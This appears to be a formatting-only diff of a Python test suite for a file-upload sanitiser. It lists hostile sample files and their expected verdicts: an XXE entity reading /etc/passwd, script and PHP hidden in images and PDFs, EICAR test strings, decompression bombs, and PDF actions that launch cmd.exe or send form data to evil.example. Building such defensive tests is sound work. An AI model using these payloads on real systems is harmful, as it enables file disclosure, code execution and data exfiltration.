@@ -136,9 +136,11 @@ def huge_image(document):
 
 def page_tree_loop():
     """A node of the page tree that is its own child."""
-    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
-            b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000053 00000 n \n"
-            b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n109\n%%EOF\n")
+    return (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
+        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000053 00000 n \n"
+        b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n109\n%%EOF\n"
+    )
 
 
 def endless_drawing():
@@ -171,7 +173,8 @@ def before_first_object(data, inserted):
     rows = b"".join(
         b"%010d %s" % (int(row[:10]) + shift, row[11:]) if row[17:18] == b"n" else row
         for row in table.splitlines(keepends=True)
-        if not row.startswith((b"startxref", b"%%EOF")) and not row.strip().isdigit())
+        if not row.startswith((b"startxref", b"%%EOF")) and not row.strip().isdigit()
+    )
     return text[:head] + inserted + text[head:start] + rows + b"startxref\n%d\n%%%%EOF\n" % (start + shift)
 
 
@@ -187,11 +190,19 @@ def everything():
     flate = Array([Name.FlateDecode])
     return [
         # other kinds of files, whatever they are called
-        ("SVG with a script", "a.svg",
-         lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', unknown),
+        (
+            "SVG with a script",
+            "a.svg",
+            lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            unknown,
+        ),
         ("HTML called PNG", "a.png", lambda: SCRIPT, unknown),
-        ("XML with an outer entity", "a.pdf",
-         lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', unknown),
+        (
+            "XML with an outer entity",
+            "a.pdf",
+            lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+            unknown,
+        ),
         ("Word document", "a.docx", lambda: docx(), unknown),
         ("ZIP called PDF", "a.pdf", lambda: archive(), unknown),
         ("ZIP bomb", "a.pdf", lambda: zip_bomb(), unknown),
@@ -220,21 +231,35 @@ def everything():
         ("EICAR behind a picture", "a.jpg", lambda: jpeg() + EICAR, infected),
         ("EICAR in a PDF", "a.pdf", lambda: content(EICAR), infected),
         ("EICAR in a packed PDF stream", "a.pdf", lambda: content(zlib.compress(EICAR), filter=flate), infected),
-        ("EICAR in a doubly packed stream", "a.pdf",
-         lambda: content(zlib.compress(zlib.compress(b"\0" * 999_980 + EICAR)), filter=Array([Name.FlateDecode] * 2)),
-         infected),
-        ("EICAR in hexadecimal", "a.pdf",
-         lambda: content(EICAR.hex().encode() + b">", filter=Array([Name.ASCIIHexDecode])),
-         infected),
+        (
+            "EICAR in a doubly packed stream",
+            "a.pdf",
+            lambda: content(
+                zlib.compress(zlib.compress(b"\0" * 999_980 + EICAR)), filter=Array([Name.FlateDecode] * 2)
+            ),
+            infected,
+        ),
+        (
+            "EICAR in hexadecimal",
+            "a.pdf",
+            lambda: content(EICAR.hex().encode() + b">", filter=Array([Name.ASCIIHexDecode])),
+            infected,
+        ),
         ("EICAR in a PNG text", "a.png", lambda: files.png_with_text(Comment=EICAR.decode()), infected),
-        ("EICAR in a packed PNG text", "a.png",
-         lambda: files.png_with((b"zTXt", b"Comment\0\0" + zlib.compress(EICAR))),
-         infected),
+        (
+            "EICAR in a packed PNG text",
+            "a.png",
+            lambda: files.png_with((b"zTXt", b"Comment\0\0" + zlib.compress(EICAR))),
+            infected,
+        ),
         # pictures with company
         ("JPEG and HTML", "a.jpg", lambda: jpeg() + SCRIPT, foreign),
-        ("JPEG with a script in its comment", "a.jpg",
-         lambda: files.jpeg_with(0xFE, b"*/=1;</x><script>alert(1)</script>"),
-         foreign),
+        (
+            "JPEG with a script in its comment",
+            "a.jpg",
+            lambda: files.jpeg_with(0xFE, b"*/=1;</x><script>alert(1)</script>"),
+            foreign,
+        ),
         ("JPEG with a script between its segments", "a.jpg", script_between_segments, foreign),
         ("JPEG with PHP in its EXIF", "a.jpg", lambda: files.jpeg_with(0xE1, b"Exif\0\0" + PHP), foreign),
         ("JPEG and archive", "a.jpg", lambda: jpeg() + archive(), foreign),
@@ -245,11 +270,18 @@ def everything():
         ("PNG and PHP", "a.png", lambda: png() + PHP, foreign),
         ("PNG and archive", "a.png", lambda: png() + archive(), foreign),
         ("PNG with PHP in a text", "a.png", lambda: files.png_with_text(Comment=PHP.decode()), foreign),
-        ("PNG with a script in a packed text", "a.png",
-         lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(SCRIPT))),
-         foreign),
-        ("PNG with HTML in an international text", "a.png",
-         lambda: files.png_with((b"iTXt", b"x\0\1\0en\0x\0" + zlib.compress(SCRIPT))), foreign),
+        (
+            "PNG with a script in a packed text",
+            "a.png",
+            lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(SCRIPT))),
+            foreign,
+        ),
+        (
+            "PNG with HTML in an international text",
+            "a.png",
+            lambda: files.png_with((b"iTXt", b"x\0\1\0en\0x\0" + zlib.compress(SCRIPT))),
+            foreign,
+        ),
         ("PNG with a program in a chunk of its own", "a.png", lambda: files.png_with((b"evIl", ELF)), foreign),
         ("PNG with SVG in a text", "a.png", lambda: files.png_with_text(x='<svg onload="alert(1)">'), foreign),
         ("JPEG without an end, and archive", "a.jpg", lambda: jpeg()[:-2] + archive(), foreign),
@@ -259,24 +291,40 @@ def everything():
         ("JPEG of three bytes", "a.jpg", lambda: b"\xff\xd8\xff", broken),
         ("JPEG without pixels", "a.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9", broken),
         ("truncated PNG", "a.png", lambda: png()[:-40], broken),
-        ("PNG whose pixels end too early", "a.png", lambda: png()[:33] + png_chunk(b"IDAT", zlib.compress(b"\0" * 9))
-         + png_chunk(b"IEND", b""), broken),
+        (
+            "PNG whose pixels end too early",
+            "a.png",
+            lambda: png()[:33] + png_chunk(b"IDAT", zlib.compress(b"\0" * 9)) + png_chunk(b"IEND", b""),
+            broken,
+        ),
         ("PNG without anything", "a.png", lambda: b"\x89PNG\r\n\x1a\n", broken),
         ("truncated PDF", "a.pdf", lambda: pdf(3)[:-40], broken),
         ("PDF of its beginning", "a.pdf", lambda: b"%PDF-1.7\n", broken),
         ("PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", broken),
-        ("PDF whose cross references point nowhere", "a.pdf",
-         lambda: pdf().replace(b"startxref\n", b"startxref\n9"), CLEANED),
+        (
+            "PDF whose cross references point nowhere",
+            "a.pdf",
+            lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
+            CLEANED,
+        ),
         ("PDF whose page tree goes round in circles", "a.pdf", lambda: page_tree_loop(), broken),
         # bombs
         ("JPEG header of 65,500 × 65,500", "a.jpg", lambda: jpeg_of(65_500, 65_500), large),
         ("PNG header of 100,000 × 100,000", "a.png", lambda: png_of(100_000, 100_000), large),
         ("PNG header of 140 megapixels with transparency", "a.png", lambda: png_of(14_000, 10_000, mode="RGBA"), large),
-        ("PNG header of 80 megapixels with a transparent colour", "a.png",
-         lambda: png_of(10_000, 8_000, transparency=(255, 255, 255)), large),
+        (
+            "PNG header of 80 megapixels with a transparent colour",
+            "a.png",
+            lambda: png_of(10_000, 8_000, transparency=(255, 255, 255)),
+            large,
+        ),
         ("PNG of zeros, 225 megapixels", "a.png", lambda: files.png(mode="1", size=(15_000, 15_000)), large),
-        ("PNG with a packed text of 20 MB", "a.png",
-         lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 20_000_000))), complex_),
+        (
+            "PNG with a packed text of 20 MB",
+            "a.png",
+            lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 20_000_000))),
+            complex_,
+        ),
         ("JPEG with hundreds of scans", "a.jpg", lambda: endless_jpeg(), complex_),
         ("PDF with 400 MB in a stream", "a.pdf", lambda: flate_bomb(1), complex_),
         ("PDF with 400 MB packed three times", "a.pdf", lambda: flate_bomb(3), complex_),
@@ -290,33 +338,53 @@ def everything():
         ("PDF that runs a script when opened", "a.pdf", lambda: action(S=Name.JavaScript, JS="app.alert(1)"), CLEANED),
         ("PDF that prints when opened", "a.pdf", lambda: action(S=Name.Named, N=Name.Print), CLEANED),
         ("PDF with a named script", "a.pdf", lambda: pdf(change=named_script), CLEANED),
-        ("PDF with a script spelt in hexadecimal", "a.pdf",
-         lambda: link(S=Name("/JavaScriptXXXX"), F="x").replace(b"/JavaScriptXXXX", b"/J#61vaScri#70t"), CLEANED),
+        (
+            "PDF with a script spelt in hexadecimal",
+            "a.pdf",
+            lambda: link(S=Name("/JavaScriptXXXX"), F="x").replace(b"/JavaScriptXXXX", b"/J#61vaScri#70t"),
+            CLEANED,
+        ),
         ("PDF that starts a program", "a.pdf", lambda: link(S=Name.Launch, F="cmd.exe"), CLEANED),
         ("PDF that opens another file", "a.pdf", lambda: link(S=Name.GoToR, F="//evil.example/share/x.pdf"), CLEANED),
         ("PDF that opens an embedded file", "a.pdf", lambda: link(S=Name.GoToE, T=Dictionary(R=Name.C)), CLEANED),
         ("PDF that sends a form", "a.pdf", lambda: link(S=Name.SubmitForm, F="http://evil.example/"), CLEANED),
         ("PDF that fetches form data", "a.pdf", lambda: link(S=Name.ImportData, F="\\\\evil.example\\x.fdf"), CLEANED),
         ("PDF with a link to a script", "a.pdf", lambda: link(S=Name.URI, URI=" java\nscript:alert(1)"), CLEANED),
-        ("PDF with a player", "a.pdf",
-         lambda: annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()), CLEANED),
+        (
+            "PDF with a player",
+            "a.pdf",
+            lambda: annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
+            CLEANED,
+        ),
         ("PDF with an attachment", "a.pdf", lambda: pdf(change=attachment), CLEANED),
         ("PDF with an XFA form", "a.pdf", lambda: pdf(change=xfa), CLEANED),
         ("PDF with actions of a page", "a.pdf", lambda: pdf(change=page_action), CLEANED),
         # PDFs with company
         ("PDF and archive", "a.pdf", lambda: pdf() + archive(), foreign),
         ("PDF and archive that ends like a PDF", "a.pdf", lambda: pdf() + archive(comment=b"\n%%EOF\n"), foreign),
-        ("PDF with an archive inside its last object", "a.pdf",
-         lambda: content(archive(content=b"x" * 40), filter=Name.DCTDecode), foreign),
+        (
+            "PDF with an archive inside its last object",
+            "a.pdf",
+            lambda: content(archive(content=b"x" * 40), filter=Name.DCTDecode),
+            foreign,
+        ),
         ("PDF and something that nobody knows", "a.pdf", lambda: pdf() + b"\x01\x02 surplus", CLEANED),
         ("GIF with a PDF behind it", "a.pdf", lambda: b"GIF89a\1\0\1\0" + pdf(), unknown),
         ("script before a PDF", "a.pdf", lambda: b"x=1 <script>alert(1)</script>\n" + pdf(), foreign),
         ("PDF and PDF", "a.pdf", lambda: pdf() + pdf(2), foreign),
         ("PDF and HTML", "a.pdf", lambda: pdf() + SCRIPT, foreign),
-        ("PDF with HTML before its first object", "a.pdf",
-         lambda: before_first_object(pdf(), b"%" + SCRIPT + b"\n"), foreign),
-        ("PDF with PHP between its objects", "a.pdf",
-         lambda: pdf().replace(b"endobj\n", b"endobj\n%" + PHP + b"\n", 1), foreign),
+        (
+            "PDF with HTML before its first object",
+            "a.pdf",
+            lambda: before_first_object(pdf(), b"%" + SCRIPT + b"\n"),
+            foreign,
+        ),
+        (
+            "PDF with PHP between its objects",
+            "a.pdf",
+            lambda: pdf().replace(b"endobj\n", b"endobj\n%" + PHP + b"\n", 1),
+            foreign,
+        ),
         # locked ones
         ("PDF with a password", "a.pdf", lambda: protected(user="secret", owner="secret"), "document_encrypted"),
         ("PDF protected against printing", "a.pdf", lambda: protected(user="", owner="secret"), CLEANED),
